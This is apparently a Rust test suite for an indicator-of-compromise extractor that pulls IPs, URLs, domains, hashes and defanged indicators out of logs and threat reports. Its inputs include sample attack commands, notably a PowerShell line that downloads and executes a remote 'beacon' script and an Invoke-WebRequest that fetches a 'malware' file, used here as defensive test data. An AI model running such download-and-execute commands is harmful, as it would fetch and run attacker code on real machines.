//! IoC extraction (`huntbook::ioc`): every type with exact expected sets, msticpy's reporting rules, each fix to
//! msticpy, defanged indicators, custom types per extractor, the table API, and the Tour's process table (counts
//! computed independently with a Python re-implementation of the documented rules and `tldextract`'s suffix list).

use huntbook::frame::loganalytics::parse_response;
use huntbook::ioc::{extract_iocs, extract_iocs_frame, CustomIoc, Ioc, IocExtractor, IocOptions};

fn pairs(iocs: &[Ioc]) -> Vec<(&str, &str)> {
    iocs.iter()
        .map(|i| (i.ioc_type.as_str(), i.observable.as_str()))
        .collect()
}

fn found(text: &str) -> Vec<(String, String)> {
    extract_iocs(text, &IocOptions::default())
        .unwrap()
        .into_iter()
        .map(|i| (i.ioc_type, i.observable))
        .collect()
}

fn no_paths() -> IocOptions {
    IocOptions {
        include_paths: Some(false),
        ..Default::default()
    }
}

#[test]
fn every_type() {
    let text =
        "Beacon to 203.0.113.5 and 2001:db8::1 via https://evil.example.com/a/b?x=1#f, ftp://files.example.org/p \
                sftp://h.example.net telnet://10.0.0.1:23 ldap://dc.corp.example.com/o=x file:///C:/tmp/x.dll; mail \
                admin@example.co.uk; hashes d41d8cd98f00b204e9800998ecf8427e da39a3ee5e6b4b0d3255bfef95601890afd80709 \
                e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855; C:\\Windows\\Temp\\evil.exe";
    let got = extract_iocs(text, &no_paths()).unwrap();
    assert_eq!(
        pairs(&got),
        [
            ("ipv4", "203.0.113.5"),
            ("ipv6", "2001:db8::1"),
            ("url", "https://evil.example.com/a/b?x=1#f"),
            ("dns", "evil.example.com"),
            ("url", "ftp://files.example.org/p"),
            ("dns", "files.example.org"),
            ("url", "sftp://h.example.net"),
            ("dns", "h.example.net"),
            ("url", "telnet://10.0.0.1:23"),
            ("ipv4", "10.0.0.1"),
            ("url", "ldap://dc.corp.example.com/o=x"),
            ("dns", "dc.corp.example.com"),
            ("url", "file:///C:/tmp/x.dll"),
            ("email", "admin@example.co.uk"),
            ("dns", "example.co.uk"),
            ("md5_hash", "d41d8cd98f00b204e9800998ecf8427e"),
            ("sha1_hash", "da39a3ee5e6b4b0d3255bfef95601890afd80709"),
            (
                "sha256_hash",
                "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"
            ),
        ]
    );
    assert!(got.iter().all(|i| i.observable == i.refanged));

    // Paths: every type for one text (msticpy's `extract(src=…)`); msticpy's own regexes, so its odd matches too
    // (checked with Python `re` and msticpy's patterns).
    let all = found(text);
    let paths: Vec<(&str, &str)> = all
        .iter()
        .filter(|(t, _)| t.ends_with("_path"))
        .map(|(t, v)| (t.as_str(), v.as_str()))
        .collect();
    assert_eq!(
        paths,
        [
            ("linux_path", "//evil.example.com/a/b?x=1#f,"),
            ("linux_path", "//files.example.org/p"),
            ("linux_path", "//h.example.net"),
            ("linux_path", "//10.0.0.1:23"),
            ("linux_path", "//dc.corp.example.com/o=x"),
            ("linux_path", "///C:"),
            ("linux_path", "/tmp/x.dll;"),
            ("windows_path", "C:\\Windows\\Temp\\evil.exe"),
        ]
    );
}

#[test]
fn url_and_host_email_and_domain() {
    assert_eq!(
        found("Invoke-WebRequest https://contoso.com/malware -OutFile C:\\malware.exe"),
        [
            ("url".into(), "https://contoso.com/malware".into()),
            ("linux_path".into(), "//contoso.com/malware".into()),
            ("dns".into(), "contoso.com".into()),
            ("windows_path".into(), "C:\\malware.exe".into()),
        ]
    );
    let got = extract_iocs("cmd /c echo timb@microsoft.com; romead@microsoft.com", &no_paths()).unwrap();
    assert_eq!(
        pairs(&got),
        [
            ("email", "timb@microsoft.com"),
            ("dns", "microsoft.com"),
            ("email", "romead@microsoft.com")
        ]
    );
}

#[test]
fn priority_decides_the_type_of_one_string() {
    // `10.0.0.1` is an IPv4 (priority 0) and would also match a custom "anything dotted" type (priority 3).
    let dotted = CustomIoc::new("dotted", r"[0-9a-z]+(\.[0-9a-z]+)+", 3).unwrap();
    let o = IocOptions {
        custom: vec![dotted],
        include_paths: Some(false),
        ..Default::default()
    };
    let got = extract_iocs("ping 10.0.0.1 then v2.5.1", &o).unwrap();
    assert_eq!(pairs(&got), [("ipv4", "10.0.0.1"), ("dotted", "v2.5.1")]);
    // A custom type with a better priority than dns takes the string.
    let corp = CustomIoc::new("corp_host", r"[a-z0-9-]+\.corp\.example\.com", 1).unwrap();
    let o = IocOptions {
        custom: vec![corp],
        include_paths: Some(false),
        ..Default::default()
    };
    let got = extract_iocs("connect dc1.corp.example.com and www.example.com", &o).unwrap();
    assert_eq!(
        pairs(&got),
        [("corp_host", "dc1.corp.example.com"), ("dns", "www.example.com")]
    );
}

#[test]
fn custom_types_belong_to_one_extractor() {
    let ticket = CustomIoc::new("ticket", r"INC-\d{6}", 0).unwrap();
    let with = IocExtractor::new(&IocOptions {
        custom: vec![ticket],
        ..Default::default()
    })
    .unwrap();
    let without = IocExtractor::new(&IocOptions::default()).unwrap();
    let text = "see INC-004217 for 198.51.100.20";
    assert_eq!(
        pairs(&with.extract(text)),
        [("ticket", "INC-004217"), ("ipv4", "198.51.100.20")]
    );
    assert_eq!(pairs(&without.extract(text)), [("ipv4", "198.51.100.20")]);
    // Capture groups, replacing a built-in, and errors.
    let user = CustomIoc::new("user", r"user=(?P<name>[a-z]+)", 0)
        .unwrap()
        .with_group("name")
        .unwrap();
    let o = IocOptions {
        custom: vec![user],
        ..Default::default()
    };
    assert_eq!(
        pairs(&extract_iocs("login user=alice ok", &o).unwrap()),
        [("user", "alice")]
    );
    let strict_dns = CustomIoc::new("dns", r"[a-z]+\.test", 2).unwrap();
    let o = IocOptions {
        custom: vec![strict_dns],
        include_paths: Some(false),
        ..Default::default()
    };
    assert_eq!(pairs(&extract_iocs("a.test b.com", &o).unwrap()), [("dns", "a.test")]);
    assert!(CustomIoc::new("x", r"(?<=a)b", 0)
        .unwrap_err()
        .to_string()
        .contains("custom IoC type 'x': invalid regex"));
    assert!(CustomIoc::new(" ", "a", 0).is_err());
    assert!(CustomIoc::new("x", "a", 0).unwrap().with_group("nope").is_err());
    let twice = vec![
        CustomIoc::new("t", "a", 0).unwrap(),
        CustomIoc::new("t", "b", 0).unwrap(),
    ];
    assert!(IocExtractor::new(&IocOptions {
        custom: twice,
        ..Default::default()
    })
    .is_err());
}

#[test]
fn type_selection() {
    let text = "http://a.com/x 1.2.3.4 d41d8cd98f00b204e9800998ecf8427e";
    let o = IocOptions {
        types: Some(vec!["ipv4".into(), "md5".into()]),
        ..Default::default()
    };
    assert_eq!(
        pairs(&extract_iocs(text, &o).unwrap()),
        [("ipv4", "1.2.3.4"), ("md5_hash", "d41d8cd98f00b204e9800998ecf8427e")]
    );
    let e = IocExtractor::new(&IocOptions {
        types: Some(vec!["ipv5".into()]),
        ..Default::default()
    })
    .unwrap_err()
    .to_string();
    assert!(
        e.contains("unknown IoC type 'ipv5' (did you mean 'ipv4'?)") && e.contains("sha256_hash"),
        "{e}"
    );
}

#[test]
fn percent_encoded_urls_inside_urls() {
    let got = extract_iocs(
        "GET https://safe.example.com/redirect?u=https%3A%2F%2Fevil.example.net%2Fpayload%3Fid%3D7&x=1",
        &no_paths(),
    )
    .unwrap();
    assert_eq!(
        pairs(&got),
        [
            (
                "url",
                "https://safe.example.com/redirect?u=https%3A%2F%2Fevil.example.net%2Fpayload%3Fid%3D7&x=1"
            ),
            ("dns", "safe.example.com"),
            ("url", "https://evil.example.net/payload?id=7&x=1"),
            ("dns", "evil.example.net"),
        ]
    );
}

#[test]
fn fixes_to_msticpy() {
    // A URL in quotes ends at the closing quote (the demo's beacon loop).
    let urls = |t: &str| -> Vec<String> {
        extract_iocs(t, &IocOptions { types: Some(vec!["url".into()]), ..Default::default() })
            .unwrap()
            .into_iter()
            .map(|i| i.observable)
            .collect()
    };
    assert_eq!(
        urls("try{IEX $w.DownloadString('https://cdn.example.com/api/beacon')}catch{};Start-Sleep -s 600"),
        ["https://cdn.example.com/api/beacon"]
    );
    assert_eq!(urls(r#"iwr "http://a.example.com/x?q='1'&b=2" -o b"#), ["http://a.example.com/x?q='1'&b=2"]);
    assert_eq!(urls("see http://a.example.com/it's-here"), ["http://a.example.com/it's-here"]);
    // IPv4: octets and whole tokens.
    assert!(
        found("1.2.3.4.5 v1.2.3.4 10.0.0.300 1.2.3.4a a_1.2.3.4 1.287.0.0 WindowsAzureNetAgent_1.0.0.139").is_empty()
    );
    assert_eq!(
        found("(10.0.0.1), 8.8.8.8."),
        [("ipv4".into(), "10.0.0.1".into()), ("ipv4".into(), "8.8.8.8".into())]
    );
    // Domains: whole tokens, not files in paths, not an email's local part.
    assert!(found("powershell c:\\temp\\30620\\15896.ps1 xyz.ps1")
        .iter()
        .all(|(t, _)| t != "dns"));
    assert!(extract_iocs(
        "C:\\Windows\\Microsoft.NET\\Framework64 C:\\x\\710dc858-9c96.zip CbsPersist_2019.cab",
        &no_paths()
    )
    .unwrap()
    .is_empty());
    assert_eq!(found("evil.ps"), [("dns".into(), "evil.ps".into())]);
    assert_eq!(
        extract_iocs(
            "\\\\fileserver.corp.example.com\\share john.doe@example.com",
            &no_paths()
        )
        .unwrap()
        .len(),
        3 // the UNC host, the email, its domain; not `john.doe`
    );
    // IPv6: must be an address.
    assert!(found("at 12:34:56 from 00:11:22:33:44:55 [Convert]::FromBase64String").is_empty());
    // Emails: domain on the public-suffix list, sane local part.
    assert!(extract_iocs("user@host.notatld", &no_paths()).unwrap().is_empty());
    assert_eq!(
        pairs(&extract_iocs("http://a.com/x?email=bob@evil.com", &no_paths()).unwrap()),
        [
            ("url", "http://a.com/x?email=bob@evil.com"),
            ("dns", "a.com"),
            ("email", "bob@evil.com"),
            ("dns", "evil.com")
        ]
    );
    // URLs: a host is needed, glued protocols are not URLs, trailing punctuation is not part of them.
    let urls = IocOptions {
        types: Some(vec!["url".into()]),
        ..Default::default()
    };
    assert!(extract_iocs("http:// and xhttp://a.com", &urls).unwrap().is_empty());
    assert_eq!(
        pairs(&extract_iocs("(see http://a.com/x). 'https://b.org'", &no_paths()).unwrap()),
        [
            ("url", "http://a.com/x"),
            ("dns", "a.com"),
            ("url", "https://b.org"),
            ("dns", "b.org")
        ]
    );
    // Hashes one character apart are all found.
    let a = "a".repeat(32);
    let b = "b".repeat(32);
    assert_eq!(
        found(&format!("{a},{b}")),
        [("md5_hash".into(), a.clone()), ("md5_hash".into(), b.clone())]
    );
    // Deterministic, first-appearance order.
    let text = "z.example.com then a.example.com then 9.9.9.9 then 1.1.1.1 then z.example.com";
    let one = found(text);
    assert_eq!(
        one,
        [
            ("dns".into(), "z.example.com".into()),
            ("dns".into(), "a.example.com".into()),
            ("ipv4".into(), "9.9.9.9".into()),
            ("ipv4".into(), "1.1.1.1".into())
        ]
    );
    assert_eq!(found(text), one);
}

#[test]
fn defanged_indicators() {
    let got = extract_iocs(
        "C2: hxxps://update-check[.]example[.]com/api and hxxp[:]//45.77.12[.]9:8080/u, fxp://files(.)example(.)org/a; \
         backup 45[.]77[.]12[.]9 and bob[at]evil[.]com, Evil[dot]Example[dot]net",
        &no_paths(),
    )
    .unwrap();
    let rows: Vec<(&str, &str, &str)> = got
        .iter()
        .map(|i| (i.ioc_type.as_str(), i.observable.as_str(), i.refanged.as_str()))
        .collect();
    assert_eq!(
        rows,
        [
            (
                "url",
                "hxxps://update-check[.]example[.]com/api",
                "https://update-check.example.com/api"
            ),
            ("dns", "update-check[.]example[.]com", "update-check.example.com"),
            ("url", "hxxp[:]//45.77.12[.]9:8080/u", "http://45.77.12.9:8080/u"),
            ("ipv4", "45.77.12[.]9", "45.77.12.9"),
            ("url", "fxp://files(.)example(.)org/a", "ftp://files.example.org/a"),
            ("dns", "files(.)example(.)org", "files.example.org"),
            ("ipv4", "45[.]77[.]12[.]9", "45.77.12.9"),
            ("email", "bob[at]evil[.]com", "bob@evil.com"),
            ("dns", "evil[.]com", "evil.com"),
            ("dns", "Evil[dot]Example[dot]net", "Evil.Example.net"),
        ]
    );
    // Off: only plain indicators.
    let o = IocOptions {
        defanged: false,
        ..no_paths()
    };
    assert!(extract_iocs("hxxp://evil[.]com 1[.]2[.]3[.]4", &o).unwrap().is_empty());
}

#[test]
fn a_threat_report() {
    // In the style of a CISA advisory's indicator list.
    let report = "Table 3: Malicious URLs\n\
        hxxp://acme-support[.]com/download/agent.msi\n\
        hxxps://login-microsoftonline[.]xyz/common/oauth2/authorize?client_id=1\n\
        hxxps://cdn.jsdelivr-static[.]net/npm/jquery@3.6.0/dist/jquery.min.js (staging)\n\
        The actor also used http://192.0.2.44/stage2.ps1, and ftp://198.51.100.3/loot.zip.\n";
    let urls: Vec<String> = extract_iocs(
        report,
        &IocOptions {
            types: Some(vec!["url".into()]),
            ..Default::default()
        },
    )
    .unwrap()
    .into_iter()
    .map(|i| i.refanged)
    .collect();
    assert_eq!(
        urls,
        [
            "http://acme-support.com/download/agent.msi",
            "https://login-microsoftonline.xyz/common/oauth2/authorize?client_id=1",
            "https://cdn.jsdelivr-static.net/npm/jquery@3.6.0/dist/jquery.min.js",
            "http://192.0.2.44/stage2.ps1",
            "ftp://198.51.100.3/loot.zip",
        ]
    );
}

fn load_fixture() -> huntbook::Frame {
    let bytes = std::fs::read(concat!(
        env!("CARGO_MANIFEST_DIR"),
        "/../shared/fixtures/tour/asn_processes_on_host.la.json"
    ))
    .expect("the Tour fixture");
    parse_response(&bytes).unwrap().tables.remove(0)
}

fn count(f: &huntbook::Frame, ty: &str) -> usize {
    f.df()
        .column("IoCType")
        .unwrap()
        .str()
        .unwrap()
        .into_iter()
        .filter(|t| *t == Some(ty))
        .count()
}

#[test]
fn the_tours_process_table() {
    let f = load_fixture();
    let t = extract_iocs_frame(&f, &["CommandLine"], &IocOptions::default()).unwrap();
    assert_eq!(
        t.column_names(),
        ["IoCType", "Observable", "SourceIndex", "Input", "Refanged"]
    );
    // Python (re + tldextract, the rules as documented): 4753 rows; msticpy 3.0.2 gives 6686 (2721 dns, mostly
    // `12345.ps` out of `12345.ps1`, and 901 ipv4 including 1.287.0.0 and 1.0.0.139 out of `Agent_1.0.0.139`).
    assert_eq!(t.height(), 4753);
    assert_eq!(
        [
            count(&t, "email"),
            count(&t, "ipv4"),
            count(&t, "dns"),
            count(&t, "url"),
            count(&t, "md5_hash"),
            count(&t, "ipv6")
        ],
        [3054, 898, 791, 8, 2, 0]
    );
    let mut distinct: Vec<(String, String)> = (0..t.height())
        .map(|i| {
            let r = t.df().get_row(i).unwrap().0;
            (r[0].get_str().unwrap().to_string(), r[1].get_str().unwrap().to_string())
        })
        .filter(|(ty, _)| ty != "email")
        .collect();
    distinct.sort();
    distinct.dedup();
    let distinct: Vec<(&str, &str)> = distinct.iter().map(|(a, b)| (a.as_str(), b.as_str())).collect();
    assert_eq!(
        distinct,
        [
            ("dns", "clients2.google.com"),
            ("dns", "ftp.wh401k.org"),
            ("dns", "microsoft.com"),
            ("dns", "wh401k.org"),
            ("dns", "www.401hk.com"),
            ("dns", "www.401k.com"),
            ("ipv4", "1.3.33.23"),
            ("ipv4", "127.0.0.1"),
            ("ipv4", "168.63.129.16"),
            ("md5_hash", "772A9CF421EEC37E11490F01D0EDD091"),
            ("md5_hash", "C8320AF735B4F435799D5475652CAC75"),
            ("url", "http://server/file.sct"),
            ("url", "http://wh401k.org/getps"),
            ("url", "http://www.401k.com/upload?pass=34592389"),
            ("url", "https://clients2.google.com/cr/report"),
        ]
    );
    let src: Vec<i64> = t
        .df()
        .column("SourceIndex")
        .unwrap()
        .i64()
        .unwrap()
        .into_iter()
        .take(3)
        .flatten()
        .collect();
    assert_eq!(src, [5, 7, 9]);
    let input = t
        .df()
        .column("Input")
        .unwrap()
        .str()
        .unwrap()
        .get(0)
        .unwrap()
        .to_string();
    assert_eq!(input, "ping  127.0.0.1 -n 15 ");

    // Paths only when asked for (Python with msticpy's path regexes: 27905 and 8653 distinct per row).
    let with_paths = extract_iocs_frame(
        &f,
        &["CommandLine"],
        &IocOptions {
            include_paths: Some(true),
            ..Default::default()
        },
    )
    .unwrap();
    assert_eq!(
        (count(&with_paths, "windows_path"), count(&with_paths, "linux_path")),
        (27905, 8653)
    );
    assert_eq!(with_paths.height(), 4753 + 27905 + 8653);
    // Errors and skips.
    assert!(extract_iocs_frame(&f, &["Commandline"], &IocOptions::default())
        .unwrap_err()
        .to_string()
        .contains("did you mean 'CommandLine'"));
    let skipped = extract_iocs_frame(&f, &["EventID"], &IocOptions::default()).unwrap();
    assert_eq!(skipped.height(), 0);
    assert_eq!(skipped.notes, ["column 'EventID' is int, not text: skipped"]);
}

#[test]
fn null_cells_are_skipped() {
    let json = r#"{"tables":[{"name":"T","columns":[{"name":"A","type":"string"},{"name":"B","type":"string"}],
        "rows":[[null,"x 10.1.1.1"],["http://a.com",null],[null,null],["b.example.org","c.example.org"]]}]}"#;
    let f = parse_response(json.as_bytes()).unwrap().tables.remove(0);
    let t = extract_iocs_frame(&f, &["A", "B"], &IocOptions::default()).unwrap();
    let rows: Vec<(String, String, i64)> = (0..t.height())
        .map(|i| {
            let r = t.df().get_row(i).unwrap().0;
            (
                r[0].get_str().unwrap().to_string(),
                r[1].get_str().unwrap().to_string(),
                r[2].try_extract::<i64>().unwrap(),
            )
        })
        .collect();
    assert_eq!(
        rows,
        [
            ("ipv4".to_string(), "10.1.1.1".to_string(), 0),
            ("url".into(), "http://a.com".into(), 1),
            ("dns".into(), "a.com".into(), 1),
            ("dns".into(), "b.example.org".into(), 3),
            ("dns".into(), "c.example.org".into(), 3),
        ]
    );
}

/// The text of an XML document as the Tour reads it: every text node, one per line (tags, comments and attributes
/// dropped, the five entities decoded).
fn xml_text(xml: &str) -> String {
    let mut out = String::new();
    let mut rest = xml;
    while let Some(lt) = rest.find('<') {
        out.push_str(&rest[..lt]);
        out.push('\n');
        let end = if rest[lt..].starts_with("<!--") { rest[lt..].find("-->").map(|e| e + 3) } else { rest[lt..].find('>').map(|e| e + 1) };
        rest = &rest[lt + end.unwrap_or(rest.len() - lt)..];
    }
    out.push_str(rest);
    out.replace("&lt;", "<").replace("&gt;", ">").replace("&quot;", "\"").replace("&apos;", "'").replace("&amp;", "&")
}

#[test]
fn the_tours_threat_report() {
    let xml = std::fs::read_to_string(concat!(env!("CARGO_MANIFEST_DIR"), "/site/data/threat-report.xml")).unwrap();
    let text = xml_text(&xml);
    let iocs = extract_iocs(&text, &no_paths()).unwrap();
    let of = |ty: &str| -> Vec<(&str, &str)> {
        iocs.iter()
            .filter(|i| i.ioc_type == ty)
            .map(|i| (i.observable.as_str(), i.refanged.as_str()))
            .collect()
    };
    assert_eq!(
        of("url"),
        [
            ("hxxps://northwind-payroll[.]com/sso/login.aspx?ref=q3", "https://northwind-payroll.com/sso/login.aspx?ref=q3"),
            (
                "hxxps://t.wingtiptoys-mail[.]com/c?r=https%3A%2F%2Ffiles.fabrikam-share.net%2Fd%2FQ3_payroll.zip",
                "https://t.wingtiptoys-mail.com/c?r=https%3A%2F%2Ffiles.fabrikam-share.net%2Fd%2FQ3_payroll.zip"
            ),
            ("https://files.fabrikam-share.net/d/Q3_payroll.zip", "https://files.fabrikam-share.net/d/Q3_payroll.zip"),
            ("hxxp://198.51.100[.]23:8080/gate.php", "http://198.51.100.23:8080/gate.php"),
            ("ftp://203.0.113.45/pub/rc.exe", "ftp://203.0.113.45/pub/rc.exe"),
            ("hxxps[:]//files.fabrikam-share[.]net/upload", "https://files.fabrikam-share.net/upload"),
            ("https://northwind-payroll.com/sso/login.aspx?ref=q3&lang=en", "https://northwind-payroll.com/sso/login.aspx?ref=q3&lang=en"),
        ]
    );
    assert_eq!(
        of("email"),
        [
            ("payroll-notice[at]northwind-payroll[.]com", "payroll-notice@northwind-payroll.com"),
            ("hr-updates(at)northwind-payroll(.)com", "hr-updates@northwind-payroll.com"),
            ("exfil.drop@tailspintoys-backup.com", "exfil.drop@tailspintoys-backup.com"),
        ]
    );
    let refanged = |ty: &str| -> Vec<&str> {
        let mut v: Vec<&str> = Vec::new();
        for i in iocs.iter().filter(|i| i.ioc_type == ty) {
            if !v.contains(&i.refanged.as_str()) {
                v.push(&i.refanged);
            }
        }
        v
    };
    assert_eq!(refanged("ipv4"), ["198.51.100.23", "203.0.113.45", "192.0.2.147"]);
    assert_eq!(refanged("ipv6"), ["2001:db8:4f:1a::23"]);
    assert_eq!(
        refanged("dns"),
        ["northwind-payroll.com", "t.wingtiptoys-mail.com", "files.fabrikam-share.net", "update.contoso-cdn.com", "tailspintoys-backup.com"]
    );
    assert_eq!(refanged("md5_hash"), ["5d41b6a3c2e8f0197d3a4b6c8e0f2a49"]);
    assert_eq!(refanged("sha1_hash"), ["9f2c4e6a8b0d1f3e5a7c9e1b3d5f7a9c2e4b6d80"]);
    assert_eq!(refanged("sha256_hash"), ["3b7e1f9a5c2d8e4f6a0b1c3d5e7f9a2b4c6d8e0f1a3b5c7d9e2f4a6b8c0d1e3f"]);
    // Not indicators: the loader's name, a version number, the XML namespaces (attributes).
    assert!(!iocs.iter().any(|i| i.refanged.contains("update.ps") || i.refanged.contains("4.1.7") || i.refanged.contains("mitre.org")));
}

#[test]
fn the_table_of_one_text_takes_a_line_as_a_row() {
    let text = "Indicators:\r\nC2 at hxxp://evil[.]com/x\n\nand 10.1.2.3 then evil[.]com again";
    let ex = IocExtractor::new(&no_paths()).unwrap();
    let iocs = ex.extract(text);
    assert_eq!(iocs.iter().map(|i| i.offset).collect::<Vec<_>>(), vec![19, 26, 44]);
    let t = ex.extract_table(text).unwrap();
    let rows: Vec<(String, String, i64, String)> = (0..t.height())
        .map(|i| {
            let s = |c: &str| t.column(c).unwrap().str().unwrap().get(i).unwrap().to_string();
            let line = t.column("SourceIndex").unwrap().i64().unwrap().get(i).unwrap();
            (s("IoCType"), s("Refanged"), line, s("Input"))
        })
        .collect();
    assert_eq!(
        rows,
        vec![
            ("url".into(), "http://evil.com/x".into(), 1, "C2 at hxxp://evil[.]com/x".into()),
            ("dns".into(), "evil.com".into(), 1, "C2 at hxxp://evil[.]com/x".into()),
            ("ipv4".into(), "10.1.2.3".into(), 3, "and 10.1.2.3 then evil[.]com again".into()),
        ]
    );
}

#[test]
fn options_read_with_msticpy_spellings() {
    use huntbook::options::read;
    use serde_json::json;
    // msticpy's names and aliases; one type name or a list; one custom type or a list.
    let o: IocOptions = read(
        "extractIocs",
        &json!({"types": "url", "includePaths": true, "ignore_tlds": true, "defanged": false,
                "custom_iocs": {"ioc_type": "ticket", "pattern": "INC-(?P<n>\\d+)", "priority": 2, "group": "n"}}),
    )
    .unwrap();
    assert_eq!(o.types, Some(vec!["url".to_string()]));
    assert_eq!((o.include_paths, o.ignore_tlds, o.defanged), (Some(true), true, false));
    assert_eq!(o.custom.len(), 1);
    assert_eq!((o.custom[0].name.as_str(), o.custom[0].priority, o.custom[0].group.as_deref()), ("ticket", 2, Some("n")));
    let ex = IocExtractor::new(&read("extractIocs", &json!({"iocTypes": ["ticket"], "customTypes": [
        {"name": "ticket", "iocRegex": "INC-\\d+"}]})).unwrap())
    .unwrap();
    assert_eq!(pairs(&ex.extract("see INC-42 at 10.1.2.3")), [("ticket", "INC-42")]);
    for (v, want) in [
        (
            json!({"ioc_type": ["url"], "include_path": true}),
            "extractIocs: unknown option 'include_path' (did you mean 'include_paths'?). Options are: include_paths, \
             ioc_type, ioc_types, types, custom, custom_iocs, custom_types, defanged, ignore_tlds",
        ),
        (json!({"defanged": "yes"}), "extractIocs: option 'defanged': invalid type: string \"yes\", expected a boolean"),
        (json!({"ioc_types": [1]}), "extractIocs: option 'ioc_types': invalid type: integer `1`, expected a string"),
        (
            json!({"custom": [{"name": "t", "regx": "a"}]}),
            "extractIocs: option 'custom': custom IoC type: unknown option 'regx' (did you mean 'regex'?). Options are: \
             ioc_type, name, ioc_regex, pattern, regex, priority, group",
        ),
        (json!({"custom": [{"regex": "a"}]}), "extractIocs: option 'custom': a custom IoC type needs a 'name' (text)"),
        (
            json!({"custom": {"name": "t"}}),
            "extractIocs: option 'custom': custom IoC type 't' needs a 'regex' (text or a RegExp)",
        ),
        (
            json!({"custom": {"name": "t", "regex": "a", "priority": -1}}),
            "extractIocs: option 'custom': custom IoC type: option 'priority': expected a whole number ≥ 0, got -1",
        ),
    ] {
        assert_eq!(read::<IocOptions>("extractIocs", &v).unwrap_err().to_string(), want, "{v}");
    }
}
